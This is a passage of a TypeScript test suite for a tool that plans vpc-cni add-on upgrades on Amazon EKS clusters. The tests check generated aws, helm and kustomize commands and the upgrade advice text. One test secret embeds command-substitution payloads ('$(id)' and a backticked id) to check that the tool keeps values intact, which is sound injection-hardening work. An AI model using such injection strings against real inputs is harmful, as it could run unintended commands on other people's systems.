    expect(JSON.parse(optionValue(run.calls[0]!, '--configuration-values')!)).toEqual({
      env: { WARM_IP_TARGET: '5', MINIMUM_IP_TARGET: '$MINIMUM_IP_TARGET_HCHPUW' },
      podAnnotations: { 'prometheus.io/scrape': 'true', 'vault.hashicorp.com/agent-inject-token': '$CURRENT_VAULT_HASHICORP_COM_AGENT_INJECT_TOKEN_HCHPUW' },
    });
  });

  it('waits for the add-on to be ACTIVE after every update-addon and create-addon, naming the cluster, region and add-on', () => {
    for (const facts of [
      clusterFacts({ cni: { version: 'v1.15.1-eksbuild.1', status: 'DEGRADED', healthIssues: [{ code: 'ConfigurationConflict', message: 'x' }] }, offeredVersions: K8S_129_SPRING_2024 }),
      clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.16.4-eksbuild.2' }, offeredVersions: K8S_133_2026 }),
      manifestAt('v1.17.1'),
    ]) {
      // Act
      const commands = commandsOf(evaluateClusterWithPlan(rules, facts).plan);

      // Assess
      const changes = commands.filter((c) => /aws eks (update|create)-addon /.test(c));
      expect(changes.length).toBeGreaterThan(0);
      for (const c of changes) expect(c).toMatch(/&& aws eks wait addon-active --cluster-name payments --region us-east-1 --addon-name vpc-cni$/);
    }
  });

  it('adds and updates the eks-charts repository before the first helm upgrade, one chart minor at a time, values kept', () => {
    // Act
    const commands = commandsOf(evaluateClusterWithPlan(rules, selfManaged({ version: 'v1.15.1', installMethod: 'helm', helmRelease: { name: 'aws-vpc-cni', namespace: 'kube-system', chartVersion: '1.15.1' } })).plan);

    // Assess
    const repo = commands.indexOf('helm repo add eks https://aws.github.io/eks-charts --force-update && helm repo update eks');
    const upgrades = commands.flatMap((c, i) => (c.startsWith('helm upgrade') ? [i] : []));
    expect(repo).toBeGreaterThan(0);
    expect(upgrades[0]).toBeGreaterThan(repo);
    const minors = upgrades.map((i) => /--version 1\.(\d+)\./.exec(commands[i]!)![1]).map(Number);
    expect(minors).toEqual([16, 17, 18]);
    for (const i of upgrades) expect(commands[i]).toMatch(/--kube-context payments .*--reset-then-reuse-values/);
  });

  it('gives two clusters of the same name in two accounts shell variables of their own', () => {
    // Act
    const variables = (accountId: string) =>
      [...commandsOf(evaluateClusterWithPlan(rules, clusterFacts({ accountId, cni: { configurationValues: '{"env":{"WARM_IP_TARGET":"5"}}' } })).plan).join('\n').matchAll(/\$\{(\w+):\?/g)].map((m) => m[1]);

    // Assess
    const [a, b] = [variables('222222222222'), variables('333333333333')];
    expect(a).toHaveLength(1);
    expect(b).toHaveLength(1);
    expect(a[0]).not.toBe(b[0]);
    expect(a[0]).toMatch(/^MINIMUM_IP_TARGET_[0-9A-Z]{6}$/);
  });
});

describe('plan: values put back whole (break-test of issue 12, defects 2 and 5)', () => {
  const secret = 'http://svc:p\\nw"d\'x$(id)`id`@proxy:3128\nsecond line \u2028 é';
  const config = JSON.stringify({ env: { WARM_IP_TARGET: '5', HTTPS_PROXY: 'http://svc:old@proxy:3128', X: 'a\u2028b\u2029c\u202ed\u2066e\u007ff\u0085g' } });
  const variables = { CURRENT_HTTPS_PROXY_HCHPUW: secret, MINIMUM_IP_TARGET_HCHPUW: '30' };

  it('puts a withheld value back into --configuration-values exactly as entered, through jq, and runs nothing while a variable is unset', () => {
    // Prepare
    const update = commandsOf(evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: config } })).plan).find((c) => c.includes('--configuration-values'))!;

    // Act
    const run = runPrinted(update, variables);
    const unset = runPrinted(update, { MINIMUM_IP_TARGET_HCHPUW: '30' });

    // Assess
    expect(run.status).toBe(0);
    expect(run.calls.map((c) => c.args.slice(0, 2).join(' '))).toEqual(['eks update-addon', 'eks wait']);
    expect(JSON.parse(optionValue(run.calls[0]!, '--configuration-values')!)).toEqual({
      env: { WARM_IP_TARGET: '5', HTTPS_PROXY: secret, MINIMUM_IP_TARGET: '30', X: 'a\u2028b\u2029c\u202ed\u2066e\u007ff\u0085g' },
    });
    expect(unset.status).not.toBe(0);
    expect(unset.calls).toEqual([]);
    expect(unset.stderr).toContain('set CURRENT_HTTPS_PROXY_HCHPUW to the current env.HTTPS_PROXY');
  });

  it('prints every JSON payload as ASCII, with U+2028, bidi and control characters as \\u escapes, and no output escaping changes it', () => {
    // Act
    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: config } }));

    // Assess
    const update = commandsOf(plan).find((c) => c.includes('--configuration-values'))!;
    expect(update).toMatch(/^[\x20-\x7e]+$/);
    expect(update).toContain(String.raw`"X":"a\u2028b\u2029c\u202ed\u2066e\u007ff\u0085g"`);
    expect(forCommand(update)).toBe(update);
    expect(forMarkdown(plan!.configuration!.values)).toContain(String.raw`a\\u2028b`);
  });

  it('tells the person to enter the raw value, and that jq is needed', () => {
    // Act
    const view = planView(evaluateClusterWithPlan(rules, clusterFacts({ cni: { configurationValues: config } })).plan!);

    // Assess
    const notes = view.notes.join('\n');
    expect(notes).toContain('IFS= read -rs NAME (CURRENT_HTTPS_PROXY_HCHPUW)');
    expect(notes).toContain('enter the raw value, as the setting holds it, not JSON-escaped');
    expect(notes).toContain('builds it with jq, which must be installed where it runs');
  });

  it('writes a kustomization that keeps a withheld value whole, inside the patch it carries', () => {
    // Prepare: a manifest install moving a minor, with a secret in the aws-node env
    const facts = selfManaged({ version: 'v1.17.1', configurationValues: JSON.stringify({ env: { WARM_ENI_TARGET: '1', HTTPS_PROXY: 'http://svc:old@proxy:3128' } }) });
    const write = commandsOf(evaluateClusterWithPlan(rules, facts).plan).find((c) => c.includes('kustomization.yaml'))!;
    const dir = /> '?([^' ]+)\/kustomization\.yaml/.exec(write)![1]!;
    const cwd = mkdtempSync(join(tmpdir(), 'kustomization-'));
    mkdirSync(join(cwd, dir), { recursive: true });

    // Act
    const run = runPrinted(write, { CURRENT_HTTPS_PROXY_HCHPUW: secret }, cwd);

    // Assess
    expect(run.status).toBe(0);
    const kustomization = JSON.parse(readFileSync(join(cwd, dir, 'kustomization.yaml'), 'utf8')) as { patches: { patch: string }[] };
    const daemonSet = JSON.parse(kustomization.patches[0]!.patch) as { spec: { template: { spec: { containers: { env: { name: string; value: string }[] }[] } } } };
    expect(daemonSet.spec.template.spec.containers[0]!.env).toContainEqual({ name: 'HTTPS_PROXY', value: secret });
  });
});

describe('plan: what the path text promises (break-test of issue 12, defects 6, 7 and 8)', () => {
  it('without a catalog, says what to do when EKS lists nothing at or above the release floor: upgrade Kubernetes first', () => {
    // Act: Kubernetes 1.21, for which EKS never offered 1.18
    const { plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.21', cni: { version: 'v1.6.3-eksbuild.1' } }));

    // Assess
    expect(plan?.releaseFloor).toBe('1.18.4');
    expect(plan?.targetReason).toContain('if the newest listed is below 1.18.4, move to it (one minor at a time), then upgrade Kubernetes first, one minor at a time (1.21 → 1.22 → …)');
    expect(plan?.targetReason).not.toContain('the newest offered build of each');
    expect(plan?.targetReason).toContain('except of 1.11 a build of 1.11.3 or earlier (1.11.4–1.11.5 carry vpc-cni-ipamd-reconcile-regression)');
    const list = plan!.steps.find((s) => s.commands.some((c) => c.includes('describe-addon-versions')))!;
    expect(list.title).toContain('if it is below 1.18.4, upgrade Kubernetes first');
    expect(list.title).not.toContain('pick the newest of');
  });

  it('says why a step is not the newest build of its minor', () => {
    // Prepare: an organization rule (--rules) on 1.19.5 and 1.19.6
    const orgRule = extraRule({ id: 'org-1195', severity: 'high', affected: '>=1.19.5 <1.20.0', fixed: '1.20.0' });

    // Act
    const { plan } = evaluateClusterWithPlan([...rules, orgRule], clusterFacts({ kubernetesVersion: '1.33', cni: { version: 'v1.18.6-eksbuild.1' }, offeredVersions: K8S_133_2026 }));

    // Assess
    expect(plan?.path[0]).toMatchObject({ version: 'v1.19.3-eksbuild.1', why: 'v1.19.3-eksbuild.1, not v1.19.6-eksbuild.7: 1.19.5–1.19.6 carry org-1195' });
    expect(planView(plan!).notes.join('\n')).toContain('→ v1.21.1-eksbuild.8 (v1.19.3-eksbuild.1, not v1.19.6-eksbuild.7: 1.19.5–1.19.6 carry org-1195).');
  });

  it('never says "one minor release at a time" for a move within one minor', () => {
    // Act: Kubernetes 1.24, early 2023: every 1.12 build carries the regression, so the target is v1.11.3
    const { findings, plan } = evaluateClusterWithPlan(rules, clusterFacts({ kubernetesVersion: '1.24', cni: { version: 'v1.11.0-eksbuild.1' }, offeredVersions: K8S_124_EARLY_2023 }));

    // Assess
    expect(plan?.target).toBe('v1.11.3-eksbuild.1');
    const behind = findings.find((f) => f.ruleId === 'vpc-cni-behind-latest')!;
    expect(behind.remediation.text).toBe('Upgrade vpc-cni to v1.11.3-eksbuild.1: a move within 1.11, in one update.');
    for (const f of findings) expect(f.remediation.text).not.toMatch(/one minor/);
  });
});
